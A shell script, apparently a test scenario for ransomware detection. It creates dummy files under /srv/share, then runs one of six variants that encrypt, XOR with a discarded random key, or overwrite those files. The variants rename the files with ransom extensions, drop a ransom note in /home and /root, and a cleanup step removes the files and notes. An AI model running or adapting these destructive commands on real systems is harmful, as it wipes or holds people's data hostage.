# Other people's files are encrypted and a note is left.
#--- setup
d=/srv/share; mkdir -p $d/a $d/b && i=0; while [ $i -lt 60 ]; do head -c 3000 /dev/urandom >$d/a/doc$i.odt; echo "$i" >$d/b/sheet$i.csv; i=$((i + 1)); done 2>/dev/null
#--- attack
d=/srv/share
k=k$v
case $((v % 6)) in
0) for f in $d/a/* $d/b/*; do have openssl && openssl enc -aes-256-ctr -pbkdf2 -pass pass:$k -in $f -out $f.locked && rm -f $f || { gzip -c $f >$f.locked; rm -f $f; }; done ;;
1) if have python3; then python3 -c "
import os,sys
for r,_,n in os.walk('$d'):
    for f in n:
        p=os.path.join(r,f); b=open(p,'rb').read(); k=os.urandom(len(b)); h=open(p,'r+b'); h.write(bytes(x^y for x,y in zip(b,k))); h.close(); os.rename(p,p+'.enc')"
   else for f in $d/a/* $d/b/*; do head -c 3000 /dev/urandom >$f; mv $f $f.enc; done; fi ;;
2) for f in $d/a/* $d/b/*; do dd if=/dev/urandom of=$f bs=3000 count=1 conv=notrunc; mv $f $f.$k; done ;;
3) for s in a b; do tar cf - $d/$s | gzip >$d/$s.pack; rm -rf $d/$s; done; find /srv -name '*.pack' -exec mv {} {}.crypt \; ;;
4) find $d -type f | while read -r f; do mv $f $f.tmp; head -c 3000 /dev/urandom >$f; cat $f.tmp >>$f; rm $f.tmp; mv $f $f.WNCRY; done ;;
5) if have perl; then perl -e 'for $f (glob("/srv/share/*/*")) { open F,"+<",$f; local $/; $b=<F>; seek F,0,0; print F $b ^ ("\x5a\xc3" x length $b); close F; rename $f,"$f.lock" }'
   else for f in $d/a/* $d/b/*; do tr a-y b-z <$f >$f.x; mv $f.x $f; mv $f $f.lock; done; fi ;;
esac
for s in $d /home /root; do echo "Your files are ours. Pay." >$s/README_RECOVER.txt; done
#--- cleanup
rm -rf /srv/share /root/README_RECOVER.txt /home/README_RECOVER.txt
